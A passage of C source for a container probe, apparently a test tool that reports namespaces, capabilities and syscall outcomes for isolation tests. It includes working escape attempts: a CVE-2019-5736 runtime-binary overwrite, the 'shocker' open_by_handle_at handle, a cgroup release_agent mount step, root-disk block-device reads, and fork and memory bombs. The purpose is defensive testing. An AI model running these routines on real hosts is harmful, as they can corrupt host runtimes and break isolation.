/* hrun-probe: runs inside a container and reports what it sees as `key=value` lines.
 *
 * Without arguments it prints the process's facts (namespaces, credentials, capabilities,
 * hostname, limits, environment). With a subcommand it performs one action and reports the
 * outcome, so the integration tests can check isolation from the inside:
 *
 *   hrun-probe                      facts
 *   hrun-probe write PATH [DATA]    write=ok | write=<ERRNO NAME>   (a directory: create a file in it)
 *   hrun-probe read PATH            read=ok size=N (file) | read=ok entries=N (directory) | read=<ERRNO>
 *   hrun-probe syscall NAME         syscall=ok | syscall=<ERRNO NAME>, errno=N
 *   hrun-probe exit N               exits with status N
 *   hrun-probe signal-self SIG      sends SIG to itself (pid 1 of a pid namespace survives this)
 *   hrun-probe sleep SECONDS        prints ready, then sleeps
 *   hrun-probe trap-term CODE       prints ready, exits with CODE when SIGTERM arrives
 *   hrun-probe fds                  fd.N=<readlink target> for every open descriptor
 *   hrun-probe stat PATH            stat.type stat.mode stat.uid stat.gid stat.rdev stat.fsmagic
 *   hrun-probe forkbomb MAX         forks idle children until fork fails or MAX: forked=N fork=<ERRNO>
 *   hrun-probe membomb MIB          touches MIB MiB, 16 MiB at a time: membomb=done (the OOM
 *                                   killer or ENOMEM stops it first under a memory limit)
 *   hrun-probe workload             ordinary work a service does: threads, a mutex and condition
 *                                   variable, unix/TCP/UDP sockets on loopback, a pipe with poll,
 *                                   eventfd, timerfd, a handled signal, fork + wait, file create/
 *                                   write/fsync/rename/unlink in /tmp, mmap/mprotect:
 *                                   work.<step>=ok | work.<step>=<ERRNO>, then workload=ok|failed
 *   hrun-probe exe-scan SECONDS NAME  for SECONDS, opens every other process's /proc/PID/exe for
 *                                   writing and tries PTRACE_ATTACH on those whose exe is named
 *                                   NAME or unreadable: scan.seen scan.opened scan.attached
 *   hrun-probe exe-overwrite SECONDS  CVE-2019-5736 as an attacker with CAP_SYS_PTRACE does it:
 *                                   until SECONDS pass or SIGTERM, keeps an O_PATH fd on the
 *                                   exe of every process that is not a file of this container,
 *                                   and reopens each for writing and appends to it (it succeeds
 *                                   once the process exited): exe.target.N=<readlink> per file,
 *                                   then exe.seen exe.opened exe.written exe.open_error
 *                                   exe.write_error
 *
 * It is linked statically and uses only libc, so it runs in any rootfs. An errno without a
 * name in the table below is printed as its number.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/perf_event.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sys/eventfd.h>
#include <sys/timerfd.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/wait.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/utsname.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

struct named_int {
    const char *name;
    int value;
};

#define ENTRY(x) {#x, x}

static const struct named_int errno_names[] = {
    ENTRY(EPERM),   ENTRY(ENOENT),  ENTRY(ESRCH),   ENTRY(EINTR),     ENTRY(EIO),
    ENTRY(ENXIO),   ENTRY(E2BIG),   ENTRY(ENOEXEC), ENTRY(EBADF),     ENTRY(ECHILD),
    ENTRY(EAGAIN),  ENTRY(ENOMEM),  ENTRY(EACCES),  ENTRY(EFAULT),    ENTRY(EBUSY),
    ENTRY(EEXIST),  ENTRY(EXDEV),   ENTRY(ENODEV),  ENTRY(ENOTDIR),   ENTRY(EISDIR),
    ENTRY(EINVAL),  ENTRY(ENFILE),  ENTRY(EMFILE),  ENTRY(ENOTTY),    ENTRY(ETXTBSY),
    ENTRY(EFBIG),   ENTRY(ENOSPC),  ENTRY(ESPIPE),  ENTRY(EROFS),     ENTRY(EMLINK),
    ENTRY(EPIPE),   ENTRY(ERANGE),  ENTRY(ENAMETOOLONG), ENTRY(ENOSYS), ENTRY(ENOTEMPTY),
    ENTRY(ELOOP),   ENTRY(EOVERFLOW), ENTRY(EAFNOSUPPORT), ENTRY(EOPNOTSUPP),
    ENTRY(EDQUOT),  ENTRY(ENOTSUP) /* same value as EOPNOTSUPP on Linux: first wins */,
};

static const struct named_int signal_names[] = {
    ENTRY(SIGHUP),  ENTRY(SIGINT),  ENTRY(SIGQUIT), ENTRY(SIGILL),  ENTRY(SIGTRAP),
    ENTRY(SIGABRT), ENTRY(SIGBUS),  ENTRY(SIGFPE),  ENTRY(SIGKILL), ENTRY(SIGUSR1),
    ENTRY(SIGSEGV), ENTRY(SIGUSR2), ENTRY(SIGPIPE), ENTRY(SIGALRM), ENTRY(SIGTERM),
    ENTRY(SIGCHLD), ENTRY(SIGCONT), ENTRY(SIGSTOP), ENTRY(SIGTSTP), ENTRY(SIGWINCH),
};

static const struct named_int rlimit_names[] = {
    ENTRY(RLIMIT_CPU),     ENTRY(RLIMIT_FSIZE),  ENTRY(RLIMIT_DATA),      ENTRY(RLIMIT_STACK),
    ENTRY(RLIMIT_CORE),    ENTRY(RLIMIT_RSS),    ENTRY(RLIMIT_NPROC),     ENTRY(RLIMIT_NOFILE),
    ENTRY(RLIMIT_MEMLOCK), ENTRY(RLIMIT_AS),     ENTRY(RLIMIT_LOCKS),     ENTRY(RLIMIT_SIGPENDING),
    ENTRY(RLIMIT_MSGQUEUE), ENTRY(RLIMIT_NICE),  ENTRY(RLIMIT_RTPRIO),    ENTRY(RLIMIT_RTTIME),
};

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

static void print_errno(const char *key, int err) {
    for (size_t i = 0; i < COUNT(errno_names); ++i) {
        if (errno_names[i].value == err) {
            printf("%s=%s\n", key, errno_names[i].name);
            printf("errno=%d\n", err);
            return;
        }
    }
    printf("%s=%d\n", key, err);
    printf("errno=%d\n", err);
}

/* Prints key=ok, or key=<errno name> and errno=N; returns the process exit status to use. */
static int report(const char *key, int rc, int err) {
    if (rc == 0) {
        printf("%s=ok\n", key);
        return 0;
    }
    print_errno(key, err);
    return 0;  /* a failed operation is a result, not a probe failure */
}

static int parse_int(const char *s, long *out) {
    char *end = NULL;
    errno = 0;
    long v = strtol(s, &end, 10);
    if (errno != 0 || end == s || *end != '\0') return -1;
    *out = v;
    return 0;
}

/* ---- facts ---- */

static void print_namespaces(void) {
    static const char *types[] = {"cgroup", "ipc", "mnt", "net", "pid", "pid_for_children",
                                  "time", "time_for_children", "user", "uts"};
    for (size_t i = 0; i < COUNT(types); ++i) {
        char path[64];
        struct stat st;
        snprintf(path, sizeof path, "/proc/self/ns/%s", types[i]);
        /* stat follows the magic link to the nsfs inode: its number names the namespace. */
        if (stat(path, &st) == 0)
            printf("ns.%s=%lu\n", types[i], (unsigned long)st.st_ino);
        else
            printf("ns.%s=missing\n", types[i]);
    }
}

static void print_credentials(void) {
    printf("pid=%d\n", (int)getpid());
    printf("ppid=%d\n", (int)getppid());
    printf("uid=%u\n", (unsigned)getuid());
    printf("gid=%u\n", (unsigned)getgid());
    printf("euid=%u\n", (unsigned)geteuid());
    printf("egid=%u\n", (unsigned)getegid());
    gid_t groups[256];
    int n = getgroups((int)COUNT(groups), groups);
    printf("groups=");
    for (int i = 0; i < n; ++i) printf(i ? ",%u" : "%u", (unsigned)groups[i]);
    printf("\n");
}

/* Copies selected /proc/self/status fields: capabilities, no_new_privs, seccomp mode. */
static void print_status(void) {
    static const struct {
        const char *field;
        const char *key;
    } wanted[] = {
        {"CapInh:", "cap.inh"}, {"CapPrm:", "cap.prm"}, {"CapEff:", "cap.eff"},
        {"CapBnd:", "cap.bnd"}, {"CapAmb:", "cap.amb"}, {"NoNewPrivs:", "nonewprivs"},
        {"Seccomp:", "seccomp"},
    };
    FILE *f = fopen("/proc/self/status", "re");
    if (f == NULL) {
        print_errno("status", errno);
        return;
    }
    char line[512];
    while (fgets(line, sizeof line, f) != NULL) {
        for (size_t i = 0; i < COUNT(wanted); ++i) {
            size_t len = strlen(wanted[i].field);
            if (strncmp(line, wanted[i].field, len) != 0) continue;
            char *value = line + len;
            while (*value == ' ' || *value == '\t') ++value;
            value[strcspn(value, "\n")] = '\0';
            printf("%s=%s\n", wanted[i].key, value);
        }
    }
    fclose(f);
}

static void print_limit(rlim_t v) {
    if (v == RLIM_INFINITY)
        printf("unlimited");
    else
        printf("%llu", (unsigned long long)v);
}

static void print_rlimits(void) {
    for (size_t i = 0; i < COUNT(rlimit_names); ++i) {
        struct rlimit rl;
        if (getrlimit(rlimit_names[i].value, &rl) != 0) continue;
        printf("rlimit.%s=", rlimit_names[i].name + strlen("RLIMIT_"));
        print_limit(rl.rlim_cur);
        printf(":");
        print_limit(rl.rlim_max);
        printf("\n");
    }
}

static int facts(void) {
    print_namespaces();
    print_credentials();
    print_status();

    struct utsname u;
    if (uname(&u) == 0) {
        printf("hostname=%s\n", u.nodename);
        printf("domainname=%s\n", u.domainname);
    }
    char cwd[4096];
    printf("cwd=%s\n", getcwd(cwd, sizeof cwd) ? cwd : "?");
    mode_t mask = umask(0);
    umask(mask);
    printf("umask=%04o\n", (unsigned)mask);
    print_rlimits();
    for (char **e = environ; e != NULL && *e != NULL; ++e) printf("env.%s\n", *e);
    return 0;
}

/* ---- subcommands ---- */

static int usage_error(const char *what) {
    fprintf(stderr, "hrun-probe: %s\n", what);
    return 2;
}

static int cmd_write(const char *path, const char *data) {
    struct stat st;
    int fd;
    char file[4200];
    int is_dir = stat(path, &st) == 0 && S_ISDIR(st.st_mode);
    if (is_dir) {
        snprintf(file, sizeof file, "%s/.hrun-probe-%d", strcmp(path, "/") == 0 ? "" : path,
                 (int)getpid());
        fd = open(file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    } else {
        fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    }
    if (fd < 0) return report("write", -1, errno);
    const char *payload = data != NULL ? data : (is_dir ? "hrun-probe\n" : "");
    size_t len = strlen(payload);
    int rc = 0, err = 0;
    if (len > 0 && write(fd, payload, len) != (ssize_t)len) {
        rc = -1;
        err = errno;
    }
    close(fd);
    if (is_dir) unlink(file);
    return report("write", rc, err);
}

static int cmd_read(const char *path) {
    struct stat st;
    if (stat(path, &st) != 0) return report("read", -1, errno);
    if (S_ISDIR(st.st_mode)) {
        DIR *d = opendir(path);
        if (d == NULL) return report("read", -1, errno);
        long entries = 0;
        struct dirent *de;
        while ((de = readdir(d)) != NULL)
            if (strcmp(de->d_name, ".") != 0 && strcmp(de->d_name, "..") != 0) ++entries;
        closedir(d);
        printf("read=ok\nentries=%ld\n", entries);
        return 0;
    }
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return report("read", -1, errno);
    char buf[65536];
    long long total = 0;
    ssize_t n;
    /* Bounded: /proc/kcore unmasked is as large as the address space. */
    while (total < (1LL << 24) && (n = read(fd, buf, sizeof buf)) > 0) total += n;
    int err = n < 0 ? errno : 0;
    close(fd);
    if (n < 0) return report("read", -1, err);
    printf("read=ok\nsize=%lld\n", total);
    return 0;
}

/* Each entry performs one syscall that a container's policy may forbid. */
static int try_syscall(const char *name, int *err) {
    int rc;
    if (strcmp(name, "mkdir") == 0) {
        char dir[64];
        snprintf(dir, sizeof dir, "/tmp/hrun-probe-dir-%d", (int)getpid());
        rc = mkdir(dir, 0755);
        if (rc == 0) rmdir(dir);
    } else if (strcmp(name, "mount") == 0) {
        rc = mount("none", "/tmp", "tmpfs", 0, NULL);
        if (rc == 0) umount2("/tmp", MNT_DETACH);
    } else if (strcmp(name, "unshare") == 0) {
        rc = unshare(CLONE_NEWUTS);
    } else if (strcmp(name, "ptrace") == 0) {
        rc = (int)ptrace(PTRACE_TRACEME, 0, NULL, NULL);
    } else if (strcmp(name, "chroot") == 0) {
        rc = chroot("/");
    } else if (strcmp(name, "sethostname") == 0) {
        struct utsname u;
        rc = uname(&u);
        if (rc == 0) rc = sethostname(u.nodename, strlen(u.nodename));
    } else if (strcmp(name, "setuid") == 0) {
        rc = setuid(0);
    } else if (strcmp(name, "mknod") == 0) {
        char node[64];
        snprintf(node, sizeof node, "/tmp/hrun-probe-null-%d", (int)getpid());
        rc = mknod(node, S_IFCHR | 0600, makedev(1, 3));
        if (rc == 0) unlink(node);
    } else if (strcmp(name, "chown") == 0) {
        /* Giving a file away needs CAP_CHOWN even for its owner. */
        char file[64];
        snprintf(file, sizeof file, "/tmp/hrun-probe-chown-%d", (int)getpid());
        int fd = open(file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        if (fd < 0) {
            *err = errno;
            return -1;
        }
        close(fd);
        rc = chown(file, 12345, 12345);
        int saved = errno;
        unlink(file);
        errno = saved;
    } else if (strcmp(name, "socket") == 0) {
        rc = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (rc >= 0) rc = close(rc);
    } else if (strcmp(name, "personality") == 0) {
        rc = personality(0xffffffff) == -1 ? -1 : 0;
    } else if (strcmp(name, "getpid") == 0) {
        rc = getpid() > 0 ? 0 : -1;
    } else if (strcmp(name, "keyctl") == 0) {
        rc = (int)syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0);
        if (rc > 0) rc = 0;
    } else if (strcmp(name, "bpf") == 0) {
        rc = (int)syscall(SYS_bpf, -1, NULL, 0);  /* EINVAL when allowed, EPERM when filtered */
    } else if (strcmp(name, "userns") == 0) {
        /* A new user namespace would hand back a full capability set inside it. */
        rc = unshare(CLONE_NEWUSER);
    } else if (strcmp(name, "mount_cgroup") == 0) {
        /* A cgroup v1 hierarchy of one's own is how release_agent escapes start (CVE-2022-0492). */
        rc = mount("cgroup", "/tmp", "cgroup", 0, "rdma");
        if (rc == 0) umount2("/tmp", MNT_DETACH);
    } else if (strcmp(name, "mknod_blk") == 0) {
        /* A node for the disk that holds the root filesystem, then reading it. */
        struct stat root;
        char node[64];
        rc = stat("/", &root);
        snprintf(node, sizeof node, "/tmp/hrun-probe-blk-%d", (int)getpid());
        if (rc == 0) rc = mknod(node, S_IFBLK | 0600, root.st_dev);
        if (rc == 0) {
            int fd = open(node, O_RDONLY | O_CLOEXEC);
            int saved = errno;
            unlink(node);
            if (fd < 0) {
                *err = saved;
                return -1;
            }
            char buf[512];
            rc = read(fd, buf, sizeof buf) == (ssize_t)sizeof buf ? 0 : -1;
            saved = errno;
            close(fd);
            errno = saved;
        }
    } else if (strcmp(name, "open_by_handle_at") == 0) {
        /* The "shocker" attack: a hand-made handle for inode 2, the root directory of an ext4
         * filesystem, opened relative to a descriptor on that filesystem. Needs
         * CAP_DAC_READ_SEARCH; without it the kernel refuses before looking at the handle. */
        struct {
            struct file_handle h;
            unsigned char bytes[8];
        } handle;
        memset(&handle, 0, sizeof handle);
        handle.h.handle_bytes = 8;
        handle.h.handle_type = 1; /* FILEID_INO32_GEN */
        handle.bytes[0] = 2;
        int dir = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        rc = (int)syscall(SYS_open_by_handle_at, dir, &handle.h, O_RDONLY | O_CLOEXEC);
        int saved = errno;
        if (rc >= 0) rc = close(rc);
        if (dir >= 0) close(dir);
        errno = saved;
    } else if (strcmp(name, "init_module") == 0) {
        /* An empty image: EPERM without CAP_SYS_MODULE, a format error (ENOEXEC) with it. */
        static char image[64];
        rc = (int)syscall(SYS_init_module, image, sizeof image, "");
    } else if (strcmp(name, "finit_module") == 0) {
        int fd = open("/bin/busybox", O_RDONLY | O_CLOEXEC);
        rc = (int)syscall(SYS_finit_module, fd, "", 0);
        int saved = errno;
        if (fd >= 0) close(fd);
        errno = saved;
    } else if (strcmp(name, "perf_event_open") == 0) {
        struct perf_event_attr attr;
        memset(&attr, 0, sizeof attr);
        attr.size = sizeof attr;
        attr.type = PERF_TYPE_SOFTWARE;
        attr.config = PERF_COUNT_SW_CPU_CLOCK;
        attr.disabled = 1;
        /* Every CPU, every process: the system-wide view a container must not have. */
        rc = (int)syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0);
        if (rc >= 0) rc = close(rc);
    } else if (strcmp(name, "raw_socket") == 0) {
        rc = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
        if (rc >= 0) rc = close(rc);
    } else if (strcmp(name, "clock_settime") == 0) {
        struct timespec ts;
        rc = clock_gettime(CLOCK_REALTIME, &ts);
        if (rc == 0) rc = clock_settime(CLOCK_REALTIME, &ts);
    } else {
        fprintf(stderr, "hrun-probe: unknown syscall %s\n", name);
        return -2;
    }
    *err = rc == 0 ? 0 : errno;
    return rc == 0 ? 0 : -1;
}

static int cmd_syscall(const char *name) {
    int err = 0;
    int rc = try_syscall(name, &err);
    if (rc == -2) return 2;
    return report("syscall", rc, err);
}

static int signal_from_name(const char *s) {
    long n;
    if (parse_int(s, &n) == 0) return (int)n;
    for (size_t i = 0; i < COUNT(signal_names); ++i) {
        const char *full = signal_names[i].name;
        if (strcmp(s, full) == 0 || strcmp(s, full + 3) == 0) return signal_names[i].value;
    }
    return -1;
}

static int cmd_signal_self(const char *sig_name) {
    int sig = signal_from_name(sig_name);
    if (sig <= 0) {
        fprintf(stderr, "hrun-probe: unknown signal %s\n", sig_name);
        return 2;
    }
    fflush(stdout);
    signal(sig, SIG_DFL);
    kill(getpid(), sig);
    /* Still here: the signal was ignored (a pid namespace's init ignores its own signals). */
    struct timespec ts = {0, 200 * 1000 * 1000};
    nanosleep(&ts, NULL);
    printf("signal-self=survived\n");
    return 1;
}

static int cmd_sleep(const char *seconds) {
    long s;
    if (parse_int(seconds, &s) != 0 || s < 0) {
        fprintf(stderr, "hrun-probe: bad seconds %s\n", seconds);
        return 2;
    }
    printf("ready\n");
    fflush(stdout);
    struct timespec ts = {s, 0};
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
    }
    printf("slept=%ld\n", s);
    return 0;
}

static volatile sig_atomic_t term_code;

static void on_term(int sig) {
    (void)sig;
    _exit((int)term_code);
}

static int cmd_trap_term(const char *code) {
    long c;
    if (parse_int(code, &c) != 0 || c < 0 || c > 255) {
        fprintf(stderr, "hrun-probe: bad exit code %s\n", code);
        return 2;
    }
    term_code = (sig_atomic_t)c;
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_term;
    sigemptyset(&sa.sa_mask);
    if (sigaction(SIGTERM, &sa, NULL) != 0) return report("trap-term", -1, errno);
    printf("ready\n");
    fflush(stdout);
    for (;;) pause();
}

static int cmd_fds(void) {
    DIR *d = opendir("/proc/self/fd");
    if (d == NULL) return report("fds", -1, errno);
    int own = dirfd(d);
    struct dirent *de;
    while ((de = readdir(d)) != NULL) {
        long fd;
        if (parse_int(de->d_name, &fd) != 0 || fd == own) continue;
        char link[128], target[4096];
        snprintf(link, sizeof link, "/proc/self/fd/%ld", fd);
        ssize_t n = readlink(link, target, sizeof target - 1);
        if (n < 0) n = 0;
        target[n] = '\0';
        printf("fd.%ld=%s\n", fd, target);
    }
    closedir(d);
    return 0;
}

static const char *file_type(mode_t m) {
    if (S_ISREG(m)) return "reg";
    if (S_ISDIR(m)) return "dir";
    if (S_ISLNK(m)) return "lnk";
    if (S_ISCHR(m)) return "chr";
    if (S_ISBLK(m)) return "blk";
    if (S_ISFIFO(m)) return "fifo";
    if (S_ISSOCK(m)) return "sock";
    return "unknown";
}

static int cmd_stat(const char *path) {
    struct stat st;
    if (lstat(path, &st) != 0) return report("stat", -1, errno);
    printf("stat=ok\n");
    printf("stat.type=%s\n", file_type(st.st_mode));
    printf("stat.mode=%04o\n", (unsigned)(st.st_mode & 07777));
    printf("stat.uid=%u\nstat.gid=%u\n", (unsigned)st.st_uid, (unsigned)st.st_gid);
    printf("stat.rdev=%u:%u\n", major(st.st_rdev), minor(st.st_rdev));
    struct statfs sf;
    if (statfs(path, &sf) == 0) printf("stat.fsmagic=0x%lx\n", (unsigned long)sf.f_type);
    return 0;
}

static int cmd_forkbomb(const char *max_text) {
    long max;
    if (parse_int(max_text, &max) != 0 || max < 1) return usage_error("bad count");
    long forked = 0;
    int err = 0;
    /* Children wait for a pipe that closes when the parent exits: none outlive the probe. */
    int gate[2];
    if (pipe(gate) != 0) return report("forkbomb", -1, errno);
    while (forked < max) {
        pid_t pid = fork();
        if (pid < 0) {
            err = errno;
            break;
        }
        if (pid == 0) {
            char c;
            close(gate[1]);
            while (read(gate[0], &c, 1) < 0 && errno == EINTR) {
            }
            _exit(0);
        }
        ++forked;
    }
    close(gate[1]);
    printf("forked=%ld\n", forked);
    if (err != 0)
        print_errno("fork", err);
    else
        printf("fork=ok\n");
    fflush(stdout);
    while (wait(NULL) > 0 || errno == EINTR) {
    }
    return 0;
}

static int cmd_membomb(const char *mib_text) {
    long mib;
    if (parse_int(mib_text, &mib) != 0 || mib < 1) return usage_error("bad size");
    const size_t chunk = 16u << 20;
    long done = 0;
    while (done < mib) {
        char *p = mmap(NULL, chunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED) return report("membomb", -1, errno);
        memset(p, 0x5a, chunk); /* touched pages count against the cgroup, reserved ones do not */
        done += 16;
        printf("membomb.mib=%ld\n", done);
        fflush(stdout);
    }
    printf("membomb=done\n");
    return 0;
}

static int cmd_exe_scan(const char *seconds_text, const char *runtime_name) {
    long seconds;
    if (parse_int(seconds_text, &seconds) != 0 || seconds < 1) return usage_error("bad seconds");
    long seen = 0, opened = 0, attached = 0, runtime_seen = 0;
    pid_t self = getpid();
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    printf("ready\n");
    fflush(stdout);
    do {
        DIR *d = opendir("/proc");
        if (d == NULL) return report("exe-scan", -1, errno);
        struct dirent *de;
        while ((de = readdir(d)) != NULL) {
            long pid;
            if (parse_int(de->d_name, &pid) != 0 || pid == self) continue;
            char link[64], target[4096];
            snprintf(link, sizeof link, "/proc/%ld/exe", pid);
            ssize_t n = readlink(link, target, sizeof target - 1);
            target[n > 0 ? n : 0] = '\0';
            const char *base = strrchr(target, '/');
            base = base ? base + 1 : target;
            int is_runtime = n < 0 || strcmp(base, runtime_name) == 0;
            if (n < 0 && errno == ENOENT) continue; /* exited or a kernel thread */
            ++seen;
            runtime_seen += is_runtime;
            /* CVE-2019-5736: a runtime process in the container, its exe opened for writing. */
            int fd = open(link, O_WRONLY | O_CLOEXEC);
            if (fd >= 0) {
                ++opened;
                printf("scan.opened.pid=%ld exe=%s\n", pid, target);
                close(fd);
            }
            if (is_runtime && ptrace(PTRACE_ATTACH, (pid_t)pid, NULL, NULL) == 0) {
                ++attached;
                printf("scan.attached.pid=%ld exe=%s\n", pid, target);
                ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
            }
        }
        closedir(d);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - start.tv_sec < seconds);
    printf("scan.seen=%ld\nscan.runtime_seen=%ld\nscan.opened=%ld\nscan.attached=%ld\n", seen,
           runtime_seen, opened, attached);
    return 0;
}


/* ---- exe-overwrite: the CVE-2019-5736 attack, from inside a container ---- */

static volatile sig_atomic_t overwrite_stop;
static void on_overwrite_term(int sig) { (void)sig; overwrite_stop = 1; }

static const char *errno_name(int err) {
    for (size_t i = 0; i < COUNT(errno_names); ++i)
        if (errno_names[i].value == err) return errno_names[i].name;
    return "other";
}

struct held_exe {
    int fd;
    dev_t dev;
    ino_t ino;
    int written;
};

static int cmd_exe_overwrite(const char *seconds_text) {
    long seconds;
    if (parse_int(seconds_text, &seconds) != 0 || seconds < 1) return usage_error("bad seconds");
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_overwrite_term;
    sigemptyset(&sa.sa_mask);
    if (sigaction(SIGTERM, &sa, NULL) != 0) return report("exe-overwrite", -1, errno);
    struct held_exe held[64];
    int nheld = 0;
    long opened = 0, written = 0;
    int open_error = 0, write_error = 0;
    pid_t self = getpid();
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    printf("ready\n");
    fflush(stdout);
    do {
        DIR *d = opendir("/proc");
        if (d == NULL) return report("exe-overwrite", -1, errno);
        struct dirent *de;
        while ((de = readdir(d)) != NULL) {
            long pid;
            if (parse_int(de->d_name, &pid) != 0 || pid == self) continue;
            char link[64], target[4096];
            snprintf(link, sizeof link, "/proc/%ld/exe", pid);
            int fd = open(link, O_PATH | O_CLOEXEC);
            if (fd < 0) continue; /* gone, a kernel thread, or not ours to read */
            struct stat exe, here;
            /* What the fd holds, not what the pid runs now (it may have exec'd since). */
            char held_link[64];
            snprintf(held_link, sizeof held_link, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(held_link, target, sizeof target - 1);
            target[n > 0 ? n : 0] = '\0';
            int known = fstat(fd, &exe) != 0;
            /* A file of this container (busybox, this probe) is no runtime's. */
            if (!known && n > 0 && stat(target, &here) == 0 && here.st_dev == exe.st_dev && here.st_ino == exe.st_ino)
                known = 1;
            for (int i = 0; !known && i < nheld; ++i)
                known = held[i].dev == exe.st_dev && held[i].ino == exe.st_ino;
            if (known || nheld == (int)COUNT(held)) {
                close(fd);
                continue;
            }
            held[nheld] = (struct held_exe){fd, exe.st_dev, exe.st_ino, 0};
            printf("exe.target.%d=%s\n", nheld, target);
            fflush(stdout);
            ++nheld;
        }
        closedir(d);
        /* Write access comes when the runtime's processes are gone (ETXTBSY before that). */
        for (int i = 0; i < nheld; ++i) {
            if (held[i].written) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w < 0) {
                open_error = errno;
                continue;
            }
            ++opened;
            static const char mark[] = "\nwritten from inside a container\n";
            if (write(w, mark, sizeof mark - 1) == (ssize_t)(sizeof mark - 1)) {
                held[i].written = 1;
                ++written;
                printf("exe.written.%d=yes\n", i);
                fflush(stdout);
            } else {
                write_error = errno;
            }
            close(w);
        }
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (!overwrite_stop && now.tv_sec - start.tv_sec < seconds);
    printf("exe.seen=%d\nexe.opened=%ld\nexe.written=%ld\n", nheld, opened, written);
    printf("exe.open_error=%s\nexe.write_error=%s\n", open_error ? errno_name(open_error) : "none",
           write_error ? errno_name(write_error) : "none");
    return 0;
}

/* ---- workload: what an ordinary service does, each step reported on its own ---- */

static int work_failures;

static int work_step(const char *step, int ok_cond) {
    if (ok_cond) {
        printf("work.%s=ok\n", step);
        return 0;
    }
    char key[64];
    snprintf(key, sizeof key, "work.%s", step);
    print_errno(key, errno ? errno : EINVAL);
    ++work_failures;
    return -1;
}

struct work_shared {
    pthread_mutex_t lock;
    pthread_cond_t cond;
    int counter;
    int started;
};

static void *work_thread(void *arg) {
    struct work_shared *w = arg;
    pthread_mutex_lock(&w->lock);
    ++w->started;
    pthread_cond_broadcast(&w->cond);
    pthread_mutex_unlock(&w->lock);
    for (int i = 0; i < 1000; ++i) {
        pthread_mutex_lock(&w->lock);
        ++w->counter;
        pthread_mutex_unlock(&w->lock);
    }
    return NULL;
}

static void work_threads(void) {
    struct work_shared w = {PTHREAD_MUTEX_INITIALIZER, PTHREAD_COND_INITIALIZER, 0, 0};
    pthread_t t[4];
    int made = 0;
    for (; made < 4; ++made) {
        int rc = pthread_create(&t[made], NULL, work_thread, &w);
        if (rc != 0) {
            errno = rc;
            break;
        }
    }
    pthread_mutex_lock(&w.lock);
    while (w.started < made) pthread_cond_wait(&w.cond, &w.lock);
    pthread_mutex_unlock(&w.lock);
    for (int i = 0; i < made; ++i) pthread_join(t[i], NULL);
    work_step("threads", made == 4 && w.counter == 4000);
}

static int exchange(int a, int b) {
    char buf[8] = {0};
    return write(a, "ping", 4) == 4 && read(b, buf, sizeof buf) == 4 && memcmp(buf, "ping", 4) == 0;
}

static void work_sockets(void) {
    int sv[2];
    int ok = socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) == 0;
    if (ok) {
        ok = exchange(sv[0], sv[1]);
        close(sv[0]);
        close(sv[1]);
    }
    work_step("unix_socket", ok);

    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = 0};
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t len = sizeof addr;
    int srv = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int cli = -1, conn = -1;
    ok = srv >= 0 && bind(srv, (struct sockaddr *)&addr, sizeof addr) == 0 && listen(srv, 4) == 0 &&
         getsockname(srv, (struct sockaddr *)&addr, &len) == 0;
    if (ok) {
        cli = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        ok = cli >= 0 && connect(cli, (struct sockaddr *)&addr, sizeof addr) == 0;
    }
    if (ok) {
        conn = accept4(srv, NULL, NULL, SOCK_CLOEXEC);
        ok = conn >= 0 && exchange(cli, conn) && exchange(conn, cli);
    }
    work_step("tcp_loopback", ok);
    if (conn >= 0) close(conn);
    if (cli >= 0) close(cli);
    if (srv >= 0) close(srv);

    int u1 = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    int u2 = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    addr.sin_port = 0;
    len = sizeof addr;
    char buf[8] = {0};
    ok = u1 >= 0 && u2 >= 0 && bind(u1, (struct sockaddr *)&addr, sizeof addr) == 0 &&
         getsockname(u1, (struct sockaddr *)&addr, &len) == 0 &&
         sendto(u2, "ping", 4, 0, (struct sockaddr *)&addr, sizeof addr) == 4 &&
         recvfrom(u1, buf, sizeof buf, 0, NULL, NULL) == 4 && memcmp(buf, "ping", 4) == 0;
    work_step("udp_loopback", ok);
    if (u1 >= 0) close(u1);
